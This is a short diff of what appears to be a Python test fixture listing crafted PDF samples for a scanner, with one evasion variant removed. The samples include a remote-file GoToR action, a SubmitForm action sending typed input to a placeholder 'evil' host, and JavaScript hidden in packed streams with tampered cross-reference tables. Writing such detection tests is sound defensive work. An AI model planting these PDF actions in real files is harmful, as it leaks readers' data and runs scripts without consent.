@@ -152,9 +152,6 @@ RUN = {
     "pdf, a file from elsewhere opened": PDF + b"2 0 obj\n<</S/GoToR/F(evil.pdf)>>\nendobj\n",
     "pdf, what is typed into it is sent": PDF + b"2 0 obj\n<</S/SubmitForm/F(http://evil)>>\nendobj\n",
     "pdf, a script packed into a stream": packed(b"<</S/JavaScript/JS(app.alert(1))>>"),
-    "pdf, a script packed into a stream, its table broken": packed(b"<</S/JavaScript/JS(app.alert(1))>>").replace(
-        b"/W[1 4 2]", b"/W[1 4 9]"
-    ),
     "pdf, a script packed into a stream, no table": re.sub(
         rb"startxref\n\d+", b"startxref\n0", packed(b"<</S/JavaScript/JS(app.alert(1))>>").replace(b"/XRef", b"/Xref")
     ),
